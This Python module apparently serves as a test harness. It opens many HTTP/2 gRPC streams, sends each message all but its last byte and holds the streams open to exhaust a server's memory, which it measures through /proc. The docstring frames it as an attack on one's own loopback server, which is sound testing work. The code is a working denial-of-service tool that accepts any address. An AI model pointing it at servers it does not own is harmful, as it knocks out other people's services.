"""A client of HTTP/2 that does what a gRPC library keeps its users from: messages without an end.

It attacks a server of one's own on loopback, in one thread, for as long as it is told.
"""

import collections
import pathlib
import re
import selectors
import socket
import struct
import time

FRAME_BYTES = 16384  # the largest that every server takes
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4  # a setting
ZEROS = bytes(FRAME_BYTES)


def connect(address: str) -> socket.socket:
    """`address` is HOST:PORT or unix:PATH."""
    if address.startswith("unix:"):
        client = socket.socket(socket.AF_UNIX)
        client.connect(address.removeprefix("unix:"))
        return client
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)))


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """A field of HPACK, spelt out: neither names nor values here have 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(method: str) -> bytes:
    return b"".join(
        header(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", method.encode()),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )


class Connection:
    """One connection; each of its streams sends one message, all but its last byte."""

    def __init__(self, address: str, method: str, streams: int, message_bytes: int):
        self.socket = connect(address)
        self.socket.setblocking(False)
        self.is_open = True
        self.refused_streams = 0
        self._received = b""
        self._window = 65535
        self._initial_window = 65535
        self._windows = {}
        # What a stream still has to send: the message's length goes first.
        self._left = {}
        self._out = bytearray(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self._turn = collections.deque()
        for stream in range(1, 2 * streams, 2):
            self._out += frame(HEADERS, END_HEADERS, stream, request_headers(method))
            self._out += frame(DATA, 0, stream, b"\0" + struct.pack(">I", message_bytes))
            self._windows[stream] = self._initial_window - 5
            self._window -= 5
            self._left[stream] = message_bytes - 1
            self._turn.append(stream)

    def can_send(self) -> bool:
        return bool(self._out) or (
            self._window > 0 and any(self._windows[stream] > 0 for stream in self._turn)
        )

    def send(self) -> None:
        for _ in range(len(self._turn)):
            if len(self._out) > 4 * FRAME_BYTES:
                break
            self._send_some_of(self._turn[0])
        try:
            sent = self.socket.send(self._out)
            del self._out[:sent]
        except BlockingIOError:
            pass
        except OSError:
            self.close()

    def _send_some_of(self, stream: int) -> None:
        size = min(FRAME_BYTES, self._window, self._windows[stream], self._left[stream])
        self._turn.rotate(-1)
        if size <= 0:
            return
        self._out += frame(DATA, 0, stream, ZEROS[:size])
        self._window -= size
        self._windows[stream] -= size
        self._left[stream] -= size
        if self._left[stream] == 0:
            self._turn.remove(stream)

    def receive(self) -> None:
        try:
            received = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            received = b""
        if not received:
            return self.close()
        self._received += received
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload = self._received[9 : 9 + size]
            self._received = self._received[9 + size :]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self._out += frame(SETTINGS, ACK, 0)
            for at in range(0, len(payload), 6):
                setting, value = struct.unpack(">HI", payload[at : at + 6])
                if setting == INITIAL_WINDOW_SIZE:
                    for each in self._windows:
                        self._windows[each] += value - self._initial_window
                    self._initial_window = value
        elif kind == PING and not flags & ACK:
            self._out += frame(PING, ACK, 0, payload)
        elif kind == WINDOW_UPDATE:
            (more,) = struct.unpack(">I", payload)
            if stream == 0:
                self._window += more
            elif stream in self._windows:
                self._windows[stream] += more
        elif kind in (RST_STREAM, HEADERS) and stream in self._windows:  # or its trailers
            self.refused_streams += 1
            del self._windows[stream]
            if stream in self._turn:
                self._turn.remove(stream)

    def close(self) -> None:
        self.is_open = False
        self.socket.close()


class Attack:
    """Connections that send messages all but their last byte, and hold them."""

    def __init__(
        self, address: str, connections: int, streams: int, message_bytes: int, method: str
    ):
        self._connections = [
            Connection(address, method, streams, message_bytes) for _ in range(connections)
        ]

    def run(self, seconds: float, may_go_on=lambda: True) -> None:
        """Sends as fast as the server takes it."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and may_go_on() and any(c.is_open for c in self._connections):
            selector = selectors.DefaultSelector()
            for each in self._connections:
                if each.is_open:
                    events = selectors.EVENT_READ
                    if each.can_send():
                        events |= selectors.EVENT_WRITE
                    selector.register(each.socket, events, each)
            for key, events in selector.select(0.1):
                if events & selectors.EVENT_READ:
                    key.data.receive()
                if key.data.is_open and events & selectors.EVENT_WRITE:
                    key.data.send()
            selector.close()

    @property
    def refused(self) -> int:
        """Streams that the server has ended, and those of connections that it closed."""
        return sum(each.refused_streams + (0 if each.is_open else len(each._windows))
                   for each in self._connections)

    def close(self) -> None:
        for each in self._connections:
            each.close()


def resident_mib(process_id: int) -> float:
    """What a process has in memory."""
    status = pathlib.Path(f"/proc/{process_id}/status").read_text()
    return int(re.search(r"VmRSS:\s*(\d+) kB", status)[1]) / 1024
